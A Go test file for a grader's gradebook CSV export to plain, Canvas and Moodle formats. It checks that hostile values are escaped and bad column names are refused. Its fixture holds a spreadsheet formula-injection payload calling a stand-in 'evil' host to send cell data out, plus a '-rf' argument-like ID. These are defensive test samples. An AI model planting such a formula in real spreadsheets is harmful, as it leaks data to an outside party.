package grader

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/nma-go/mlp/checks"
)

// exportGradebook is a small class: two Canvas students (one with a formula
// for a name), a Moodle student from a roster, one whose submission could
// not be graded, and a folder that no roster row matched.
func exportGradebook() *Gradebook {
	exercise := func(id checks.ExerciseID, status checks.Status, flags ...Flag) ExerciseResult {
		e := ExerciseResult{Result: checks.Result{ExerciseID: id, Status: status}, MaxPoints: 10, Flags: flags}
		return e
	}
	full := func(r *StudentResult) *StudentResult {
		r.Exercises = []ExerciseResult{exercise("1", checks.Pass), exercise("2", checks.Fail, FlagCompileError)}
		r.finish()
		return r
	}
	return &Gradebook{
		ChecksVersion: "v1",
		Exercises:     []GradebookExercise{{ID: "1", Title: "ReLU", Points: 10}, {ID: "2", Title: "MLP", Points: 10}},
		Students: []*StudentResult{
			full(&StudentResult{Student: "200001", Name: "山田 太郎", Email: "taro@example.jp", Rostered: true, Submission: "200001", Scheme: SchemeCanvas}),
			full(&StudentResult{Student: "200003", Name: `=HYPERLINK("http://evil/?"&A1,"x")`, Rostered: true, Submission: "200003", Scheme: SchemeCanvas}),
			{Student: "s2024002", Name: "鈴木 花子", Email: "hanako@example.jp", Rostered: true, Submission: "100002", Scheme: SchemeMoodle,
				Error: "the submission cannot be graded: mlp.go is 40 MiB"},
			full(&StudentResult{Student: "s2024003", Name: "+81 佐藤", Email: "sato@example.jp", Rostered: true, Submission: "100003", Scheme: SchemeMoodle}),
			full(&StudentResult{Student: "-rf", Submission: "-rf", Scheme: SchemeFolder}),
		},
	}
}

// parseCSV parses data back, checking for and stripping the BOM.
func parseCSV(t *testing.T, data []byte, bom bool) [][]string {
	t.Helper()
	assert.Equal(t, bom, bytes.HasPrefix(data, []byte(utf8BOM)), "BOM")
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte(utf8BOM)))).ReadAll()
	require.NoError(t, err)
	return rows
}

func TestExportFormats(t *testing.T) {
	gb := exportGradebook()
	const summary = "合計 10 / 20 点。演習 1: 合格、演習 2: 不合格。"
	tests := []struct {
		name    string
		opts    ExportOptions
		rows    [][]string
		leftOut []string
	}{
		{"plain", ExportOptions{Format: FormatPlain}, [][]string{
			{"student", "name", "ex1", "ex2", "total", "max", "flags", "error"},
			{"200001", "山田 太郎", "10", "0", "10", "20", "compile-error", ""},
			{"200003", `'=HYPERLINK("http://evil/?"&A1,"x")`, "10", "0", "10", "20", "compile-error", ""},
			{"s2024002", "鈴木 花子", "", "", "0", "0", "", "the submission cannot be graded: mlp.go is 40 MiB"},
			{"s2024003", "'+81 佐藤", "10", "0", "10", "20", "compile-error", ""},
			{"'-rf", "", "10", "0", "10", "20", "compile-error", ""},
		}, nil},
		{"canvas with a BOM", ExportOptions{Format: FormatCanvas, BOM: true, Assignment: "MLP 演習 (4242)"}, [][]string{
			{"Student", "ID", "SIS User ID", "SIS Login ID", "Section", "MLP 演習 (4242)"},
			{"    Points Possible", "", "", "", "", "20"},
			{"山田 太郎", "200001", "", "", "", "10"},
			{`'=HYPERLINK("http://evil/?"&A1,"x")`, "200003", "", "", "", "10"},
		}, []string{"s2024002", "s2024003", "-rf"}},
		{"moodle", ExportOptions{Format: FormatMoodle, Assignment: "W1D3"}, [][]string{
			{"ID number", "Email address", "Full name", "W1D3", "W1D3 (feedback)"},
			{"200001", "taro@example.jp", "山田 太郎", "10", summary},
			{"200003", "", `'=HYPERLINK("http://evil/?"&A1,"x")`, "10", summary},
			{"s2024002", "hanako@example.jp", "鈴木 花子", "", "採点できませんでした。担当の TA に連絡してください。"},
			{"s2024003", "sato@example.jp", "'+81 佐藤", "10", summary},
		}, []string{"-rf"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			out, err := gb.Export(tc.opts)
			require.NoError(t, err)
			assert.Equal(t, tc.rows, parseCSV(t, out.Data, tc.opts.BOM))
			assert.Equal(t, tc.leftOut, out.LeftOut)
		})
	}
}

// The plain CSV keeps its columns when no student has a name.
func TestPlainCSVWithoutNames(t *testing.T) {
	gb := exportGradebook()
	gb.Students = gb.Students[4:]
	data, err := gb.CSV()
	require.NoError(t, err)
	assert.Equal(t, [][]string{
		{"student", "ex1", "ex2", "total", "max", "flags", "error"},
		{"'-rf", "10", "0", "10", "20", "compile-error", ""},
	}, parseCSV(t, data, false))
}

func TestExportRefusesBadColumnNames(t *testing.T) {
	gb := exportGradebook()
	tests := []struct {
		name string
		opts ExportOptions
		err  string
	}{
		{"canvas without a name", ExportOptions{Format: FormatCanvas}, "the Canvas assignment needs a name"},
		{"a formula", ExportOptions{Format: FormatCanvas, Assignment: "=1+1"}, "starts like a spreadsheet formula"},
		{"a line break", ExportOptions{Format: FormatMoodle, Assignment: "W1D3\nx"}, "holds a line break"},
		{"an unknown format", ExportOptions{Format: "blackboard"}, `unknown format "blackboard"`},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, err := gb.Export(tc.opts)
			require.Error(t, err)
			assert.Contains(t, err.Error(), tc.err)
		})
	}
}

func TestParseFormat(t *testing.T) {
	for _, f := range Formats {
		got, err := ParseFormat(string(f))
		require.NoError(t, err)
		assert.Equal(t, f, got)
	}
	_, err := ParseFormat("Canvas")
	assert.EqualError(t, err, `format "Canvas": want one of plain, canvas, moodle`)
}
